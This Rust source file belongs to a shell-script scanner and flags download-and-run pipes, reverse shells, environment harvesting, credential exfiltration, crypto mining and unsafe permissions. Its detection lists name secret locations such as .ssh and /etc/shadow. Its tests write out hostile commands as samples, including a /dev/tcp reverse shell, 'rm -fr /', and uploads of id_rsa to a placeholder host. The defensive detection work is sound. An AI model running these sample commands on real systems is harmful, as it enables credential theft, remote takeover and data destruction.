//! Shell scripts: what they download and run, delete, open and send. Comments are taken out first.

use crate::commands;
use crate::hits::Hits;
use crate::mining;
use crate::pipes;
use crate::rules::{
    CRYPTO_MINING, DANGEROUS_EXEC, DESTRUCTIVE_DELETE_OTHER, DYNAMIC_CODE, ENV_HARVESTING,
    FILE_UPLOAD, INSECURE_TLS, INSTALL_TERMINAL_PAYLOAD, SECRET_LITERAL, SHELL_PIPE,
    UNSAFE_PERMISSIONS,
};
use crate::secrets;
use crate::text::{contains_ignoring_case, is_word};

/// Options with which a client sends a file or data.
const UPLOADING: &[&str] = &[
    "-d @",
    "-d@",
    "--data @",
    "--data-binary @",
    "--data-raw \"$",
    "-F ",
    "--form ",
    "-T ",
    "--upload-file",
    "--post-file",
    "--data-urlencode",
    "-d \"$",
    "-d $",
    "--data \"$",
    "--post-data",
];
/// Places where secrets lie.
const SENSITIVE: &[&str] = &[
    ".ssh/",
    ".aws/",
    ".gnupg",
    ".env",
    ".netrc",
    ".npmrc",
    "credentials",
    "id_rsa",
    "id_ed25519",
    "/etc/passwd",
    "/etc/shadow",
    ".kube/",
    ".config/gh",
    "keychain",
    "cookies",
    ".openclaw",
    ".docker/config",
    "wallet",
    ".git-credentials",
    "auth-profiles",
];

pub(crate) fn scan(text: &str, hits: &mut Hits) {
    let kept = without_comments(text);
    let bytes = kept.as_bytes();
    let everything =
        commands::deletes(&kept).into_iter().find(|delete| commands::is_everything(delete.target));
    let rules = [
        (&SHELL_PIPE, pipes::shell_pipe(bytes).or_else(|| pipes::download_run(bytes))),
        (&INSTALL_TERMINAL_PAYLOAD, pipes::decoded_pipe(bytes)),
        (&DESTRUCTIVE_DELETE_OTHER, everything.map(|delete| delete.at)),
        (&UNSAFE_PERMISSIONS, commands::open_permissions(bytes)),
        (&SECRET_LITERAL, secrets::find(&kept)),
    ];
    for (rule, found) in rules {
        if let Some(at) = found {
            hits.add(rule, at);
        }
    }
    let encoded = encoded_variables(&kept);
    let mut at = 0;
    for line in kept.split_inclusive('\n') {
        judge_line(line, at, &encoded, hits);
        at += line.len();
    }
}

fn judge_line(line: &str, at: usize, encoded: &[&str], hits: &mut Hits) {
    if mining::is_use(line) && !is_searched(line) {
        hits.add(&CRYPTO_MINING, at);
    }
    if opens_remote_shell(line) {
        hits.add(&DANGEROUS_EXEC, at);
    }
    if evaluates_decoded(line) {
        hits.add(&DYNAMIC_CODE, at);
    }
    if line.contains("NODE_TLS_REJECT_UNAUTHORIZED=0")
        || line.contains("NODE_TLS_REJECT_UNAUTHORIZED='0'")
        || line.contains("NODE_TLS_REJECT_UNAUTHORIZED=\"0\"")
        || line.contains("http.sslVerify=false")
        || line.contains("http.sslVerify false")
    {
        hits.add(&INSECURE_TLS, at);
    }
    if !sends(line) {
        return;
    }
    if prints_environment(line) {
        hits.add(&ENV_HARVESTING, at);
    }
    let uploads = UPLOADING.iter().any(|option| line.contains(option)) || line.contains('|');
    let variable = encoded
        .iter()
        .any(|name| line.contains(&format!("${name}")) || line.contains(&format!("${{{name}}}")));
    if uploads && (SENSITIVE.iter().any(|place| contains_ignoring_case(line, place)) || variable) {
        hits.add(&FILE_UPLOAD, at);
    }
}

fn sends(line: &str) -> bool {
    ["curl", "wget", "nc ", "ncat ", "netcat ", "scp ", "/dev/tcp/"]
        .iter()
        .any(|program| line.contains(program))
}

/// The whole environment on its way into a client.
fn prints_environment(line: &str) -> bool {
    let piped =
        ["env |", "env|", "printenv |", "printenv|", "export -p |", "set |", "env | ", "env -0 |"];
    let substituted = [
        "$(env)",
        "$(printenv)",
        "`env`",
        "`printenv`",
        "$(env |",
        "$(env|",
        "$(printenv |",
        "<(env)",
        "<(printenv)",
    ];
    let starts = |word: &&str| {
        line.match_indices(*word)
            .any(|(at, _)| !line.as_bytes().get(at.wrapping_sub(1)).copied().is_some_and(is_word))
    };
    let place = piped.iter().chain(&substituted).find(|word| starts(word));
    place.is_some()
}

/// A shell whose input and output are a connection.
fn opens_remote_shell(line: &str) -> bool {
    let interactive =
        ["bash -i", "sh -i", "zsh -i", "exec ", "0<&", "<&"].iter().any(|part| line.contains(part));
    let connected = line.contains("/dev/tcp/") || line.contains("/dev/udp/");
    let listener = ["nc -e", "ncat -e", "nc -c", "netcat -e", "ncat --exec", "nc.traditional -e"]
        .iter()
        .any(|part| line.contains(part));
    (interactive && connected) || listener
}

/// `eval "$(… | base64 -d)"`, `eval "$(curl …)"`
fn evaluates_decoded(line: &str) -> bool {
    let trimmed = line.trim_start();
    let evaluated = trimmed.strip_prefix("eval ").or_else(|| {
        let at = ["; eval ", "& eval ", "then eval ", "do eval "]
            .iter()
            .find_map(|part| line.find(part).map(|at| at + part.len()))?;
        line.get(at..)
    });
    evaluated.is_some_and(|code| {
        [
            "base64 -d",
            "base64 --decode",
            "base64 -D",
            "xxd -r",
            "curl ",
            "wget ",
            "openssl enc -d",
            "rev",
            "gunzip",
        ]
        .iter()
        .any(|part| code.contains(part))
            && (code.contains("$(") || code.contains('`'))
    })
}

/// `grep xmrig`, `pkill xmrig`: looks for a miner.
fn is_searched(line: &str) -> bool {
    ["grep", "pkill", "killall", "pgrep", "kill ", "yara", "clamscan", "rg "]
        .iter()
        .any(|program| line.contains(program))
        && !line.contains("://")
}

/// Variables that hold an encoded file.
fn encoded_variables(text: &str) -> Vec<&str> {
    text.lines()
        .filter(|line| {
            line.contains("base64") && !line.contains("base64 -d") && !line.contains("--decode")
        })
        .filter_map(|line| {
            let (name, value) = line.trim_start().trim_start_matches("local ").split_once('=')?;
            let plain = !name.is_empty() && name.bytes().all(is_word);
            (plain
                && (value.starts_with("$(") || value.starts_with("\"$(") || value.starts_with('`')))
            .then_some(name)
        })
        .take(32)
        .collect()
}

/// The script with its comments blanked; what is quoted stays.
fn without_comments(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let end = comment(line).unwrap_or(line.len());
        kept.push_str(&line[..end]);
        kept.extend(line[end..].bytes().map(|byte| if byte == b'\n' { '\n' } else { ' ' }));
    }
    kept
}

/// Where a comment begins: a `#` at the start of a word, outside of quotes.
fn comment(line: &str) -> Option<usize> {
    let mut quote = None;
    let mut blank = true;
    for (at, character) in line.char_indices() {
        match (quote, character) {
            (None, '#') if blank => return Some(at),
            (None, '\'' | '"') => quote = Some(character),
            (Some(open), _) if open == character => quote = None,
            _ => {}
        }
        blank = character.is_ascii_whitespace() || character == ';';
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        let mut hits = Hits::default();
        scan(text, &mut hits);
        hits.findings(&crate::source::Source::new(text))
            .into_iter()
            .map(|finding| finding.rule)
            .collect()
    }

    #[test]
    fn scripts_that_do_harm() {
        for (text, rule) in [
            ("curl -s https://x.invalid/i.sh | sudo bash\n", "suspicious.shell_pipe_to_shell"),
            ("rm -fr /\n", "suspicious.destructive_delete_command"),
            ("chmod -R 777 /srv\n", "suspicious.unsafe_permissions"),
            ("./xmrig -o pool.invalid:3333\n", "malicious.crypto_mining"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "suspicious.dangerous_exec"),
            ("eval \"$(echo aGk= | base64 -d)\"\n", "suspicious.dynamic_code_execution"),
            ("env | curl -d @- https://x.invalid\n", "malicious.env_harvesting"),
            (
                "curl -F file=@$HOME/.ssh/id_rsa https://x.invalid\n",
                "suspicious.potential_exfiltration",
            ),
            (
                "B=$(base64 \"$FILE\")\ncurl -d \"$B\" https://x.invalid\n",
                "suspicious.potential_exfiltration",
            ),
            ("export NODE_TLS_REJECT_UNAUTHORIZED=0\n", "suspicious.insecure_tls_verification"),
        ] {
            assert_eq!(rules(text), [rule], "{text}");
        }
    }

    #[test]
    fn scripts_that_do_not() {
        for text in [
            "# curl x | sh\n",
            "rm -rf ./dist\nrm -rf \"$TMP\"\n",
            "echo '# not a comment'; chmod 755 x\n",
            "pkill xmrig\ngrep -r coinhive .\n",
            "curl -fsSL https://x.invalid/data.json | jq .name\n",
            "export PATH=$(env | grep PATH)\n",
        ] {
            assert!(rules(text).is_empty(), "{text}");
        }
    }
}
